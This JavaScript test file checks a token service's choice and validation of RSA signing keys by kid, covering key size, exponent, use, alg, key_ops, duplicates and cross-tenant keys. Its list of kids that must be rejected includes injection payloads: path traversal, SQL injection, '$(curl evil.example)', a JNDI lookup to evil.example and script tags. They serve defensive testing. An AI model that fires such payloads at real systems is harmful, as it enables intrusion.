// The signing keys of access tokens. A token's kid must equal the kid of exactly one key of the
// issuer, and that key must be suitable for checking signatures.
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { describe, test } from "node:test";

import { authenticateOnSocket } from "../support/token_checks.mjs";
import { jwk, otherKey, signingKey, undersizedKey } from "../support/keys.mjs";
import { Tenant } from "../support/tenant.mjs";
import { reasons, tokenTestsFor } from "../support/token_tests.mjs";
import { startWorker } from "../support/worker.mjs";

const worker = await startWorker();
const tenant = new Tenant(worker);
const { accepts, rejects } = tokenTestsFor(tenant);
const validKey = jwk(signingKey(), "key-1");

const rsa = (modulusLength, publicExponent = 65_537) =>
  generateKeyPairSync("rsa", { modulusLength, publicExponent });
/** Encodes the same number with leading zero bytes. */
const padded = (number, zeros) =>
  Buffer.concat([Buffer.alloc(zeros), Buffer.from(number, "base64url")]).toString("base64url");
const modulus = Buffer.from(validKey.n, "base64url");
const evenModulus = Buffer.from(
  modulus.map((byte, index) => (index === modulus.length - 1 ? byte ^ 1 : byte)),
);

// Separate key pairs. The name of each is also its kid.
const VALID_PAIRS = {
  "of 2056 bits": rsa(2056),
  "of 2049 bits": rsa(2049),
  "of 4096 bits": rsa(4096),
  "with an exponent of 3": rsa(2048, 3),
  "with an exponent of 37": rsa(2048, 37),
};
const INVALID_PAIRS = {
  "of 1024 bits": undersizedKey(),
  "of 2040 bits": rsa(2040),
  "of 2047 bits": rsa(2047),
  "with an exponent of 5": rsa(2048, 5),
  "with an exponent of 257": rsa(2048, 257),
  "with an exponent of 65,539": rsa(2048, 65_539),
  "with an exponent of 32 bits": rsa(2048, 4_294_967_291),
};
// Changes to the key set entry of the valid key. The name of each is also its kid.
const VALID_ENTRIES = {
  "without use and alg": { use: undefined, alg: undefined },
  "with alg RS256": { alg: "RS256" },
  "with key_ops verify": { key_ops: ["verify"] },
  "with key_ops sign and verify": { key_ops: ["sign", "verify"] },
  "with zeros before the modulus": { n: padded(validKey.n, 3) },
  "with zeros before the exponent": { e: padded(validKey.e, 3) },
  "with a certificate and a thumbprint": { x5c: ["MIIB"], x5t: "AAAA", x5u: "https://x.example/" },
  "with unknown members": { nbf: 1, trusted: false },
};
const INVALID_ENTRIES = {
  "with use enc": { use: "enc" },
  "with use SIG": { use: "SIG" },
  "with an array as use": { use: ["sig"] },
  "with an empty use": { use: "" },
  "with key_ops sign": { key_ops: ["sign"] },
  "with empty key_ops": { key_ops: [] },
  "with key_ops VERIFY": { key_ops: ["VERIFY"] },
  "with key_ops that is no array": { key_ops: "verify" },
  "with alg RS512": { alg: "RS512" },
  "with alg HS256": { alg: "HS256" },
  "with alg RSA-OAEP": { alg: "RSA-OAEP" },
  "with alg rs256": { alg: "rs256" },
  "with alg PS256": { alg: "PS256" },
  "with an array as alg": { alg: ["RS256"] },
  "with kty EC": { kty: "EC" },
  "with kty rsa": { kty: "rsa" },
  "without kty": { kty: undefined },
  "without a modulus": { n: undefined },
  "without an exponent": { e: undefined },
  "with an empty modulus": { n: "" },
  "with a modulus of zeros": { n: Buffer.alloc(256).toString("base64url") },
  "with a modulus that is not base64url": { n: "!!!" },
  "with a modulus in base64": { n: modulus.toString("base64") },
  "with a modulus in hexadecimal": { n: `0x${modulus.toString("hex")}` },
  "with a number as modulus": { n: 7 },
  "of 8200 bits": { n: Buffer.alloc(1_025, 0xff).toString("base64url") },
  "with an exponent of 0": { e: "AA" },
  "with an exponent of 1": { e: "AQ" },
  "with an exponent of 2": { e: "Ag" },
  "with an even exponent": { e: "AQAA" },
  "with an exponent with a set trailing bit": { e: "AQAC" },
  "with a number as exponent": { e: 65_537 },
  "with a huge exponent": { e: validKey.n },
  "that is published with its private key": signingKey().privateKey.export({ format: "jwk" }),
};
const invalid = { ...INVALID_ENTRIES, ...INVALID_PAIRS };

const IDS = ["__proto__", "constructor", "schlüssel".normalize("NFC"), "1", "a b/c?d#e%20'\"\\"];
const LONG_KID = "k".repeat(2_000);
tenant.issuer.keys = [
  validKey,
  ...Object.entries({ ...VALID_PAIRS, ...INVALID_PAIRS }).map(([kid, pair]) => jwk(pair, kid)),
  ...Object.entries({ ...VALID_ENTRIES, ...INVALID_ENTRIES }).map(([kid, fields]) => ({
    ...validKey,
    ...fields,
    kid,
  })),
  ...[...IDS, LONG_KID].map((kid) => ({ ...validKey, kid })),
  { ...validKey, kid: "with alg PS256 alone", alg: "PS256" },
  { ...validKey, kid: "with an even modulus", n: evenModulus.toString("base64url") },
  { ...jwk(undersizedKey(), "of 1024 bits in 2048"), n: padded(jwk(undersizedKey()).n, 128) },
  ...["twice", "twice"].map((kid) => ({ ...validKey, kid })),
  ...[validKey, jwk(otherKey())].map((key) => ({ ...key, kid: "two keys" })),
  ...["RS256", "PS256"].map((alg) => ({ ...validKey, kid: "once for each alg", alg })),
  { ...validKey, kid: 7 },
  { ...validKey, kid: undefined },
  { ...validKey, kid: null },
  null,
  7,
  "key-1",
  [],
  {},
  { kty: "OKP", kid: "from-the-future", crv: "X448" },
];

describe("signing keys", { concurrency: 20 }, () => {
  for (const [kid, { privateKey: key }] of Object.entries(VALID_PAIRS)) {
    accepts(`a key ${kid}`, () => tenant.token({}, { kid }, { key }));
    accepts(`a key ${kid}, for PS256`, () => tenant.token({}, { kid, alg: "PS256" }, { key }));
  }
  for (const kid of Object.keys(VALID_ENTRIES))
    accepts(`a key ${kid}`, () => tenant.token({}, { kid }));
  accepts("a key with alg PS256, for PS256", () =>
    tenant.token({}, { kid: "with alg PS256 alone", alg: "PS256" }),
  );
  for (const alg of ["RS256", "PS256"]) {
    accepts(`a key that is published once for each alg, for ${alg}`, () =>
      tenant.token({}, { kid: "once for each alg", alg }),
    );
  }

  for (const kid of Object.keys(invalid)) {
    const key = INVALID_PAIRS[kid]?.privateKey ?? signingKey().privateKey;
    rejects(`a key ${kid}`, () => tenant.token({}, { kid }, { key }), reasons.key);
  }
  rejects(
    "a key of 1024 bits that is padded to 2048 bits",
    () => {
      const options = { key: undersizedKey().privateKey };
      return tenant.token({}, { kid: "of 1024 bits in 2048" }, options);
    },
    reasons.key,
  );
  rejects(
    "a key with alg RS256, for PS256",
    () => tenant.token({}, { kid: "with alg RS256", alg: "PS256" }),
    reasons.key,
  );
  rejects(
    "a key with an even modulus",
    () => tenant.token({}, { kid: "with an even modulus" }),
    reasons.signature,
  );
  for (const kid of ["twice", "two keys"]) {
    rejects(
      `a key whose kid occurs ${kid === "twice" ? "twice for one key" : "for two keys"}`,
      () => tenant.token({}, { kid }),
      reasons.ambiguous,
    );
  }
  rejects(
    "a signature of an attacker's key under a known kid",
    () => tenant.token({}, {}, { key: otherKey().privateKey }),
    reasons.signature,
  );
});

describe("the kid parameter", { concurrency: 20 }, () => {
  for (const kid of IDS) accepts(JSON.stringify(kid), () => tenant.token({}, { kid }));
  accepts("a kid of 2,000 characters", () => tenant.token({}, { kid: LONG_KID }));

  const ATTACKER_URL = "https://evil.example/keys.json";
  const UNKNOWN = [
    ...["", "unknown", "from-the-future", "undefined", "null", "7", "[object Object]", "0"],
    ...["KEY-1", "key-1 ", " key-1", "key-1\n", "key-1\t", "key-1\r\nx: y", "key-1\0", "\0"],
    ...["key-1/", "./key-1", "key-1#", "key-1?x", "key%2D1", "key-1%00", "key\\u002d1", "key_1"],
    ...["key‐1", "ｋey-1", "kеy-1", "\ufeffkey-1", "key-1\u200b", "key-1\u0301", "\u202ekey-1"],
    ...["schlüssel".normalize("NFD"), "SCHLÜSSEL", "key-1,twice", "key", "key-", "%", "*", ".*"],
    ...["../../../../../../dev/null", "/dev/null", "..\\..\\nul", "file:///dev/null", ATTACKER_URL],
    ...["x' OR '1'='1", "x'; DROP TABLE key_sets; --", '" OR ""="', "key-1' --"],
    ...["prototype", "toString", "hasOwnProperty", "valueOf", "length"],
    ...["$(curl evil.example)", "`id`", "{{7*7}}", "${jndi:ldap://evil.example/a}", "<script>"],
    ...[LONG_KID.slice(1), "x".repeat(5_500), "\u{1f511}".repeat(200)],
  ];
  for (const kid of UNKNOWN) {
    const name = kid.length < 40 ? kid : `${kid.slice(0, 20)}… of ${kid.length} characters`;
    rejects(JSON.stringify(name), () => tenant.token({}, { kid }), reasons.key);
  }
  for (const kid of [undefined, null]) {
    rejects(`${kid}`, () => tenant.token({}, { kid }), reasons.key);
  }
  for (const kid of [1, 7, -0, 1e300, true, ["key-1"], { kid: "key-1" }, []]) {
    rejects(JSON.stringify(kid), () => tenant.token({}, { kid }), reasons.form);
  }

  const otherTenant = new Tenant(worker);
  otherTenant.issuer.keys = [{ ...validKey, kid: "other tenant's key" }];
  rejects(
    "the kid of another tenant's key",
    () => tenant.token({}, { kid: "other tenant's key" }),
    reasons.key,
  );
  test("the other tenant accepts the kid of its own key", async () => {
    const token = otherTenant.token({}, { kid: "other tenant's key" });
    assert.equal(await authenticateOnSocket(otherTenant, token), "accepted");
  });
});
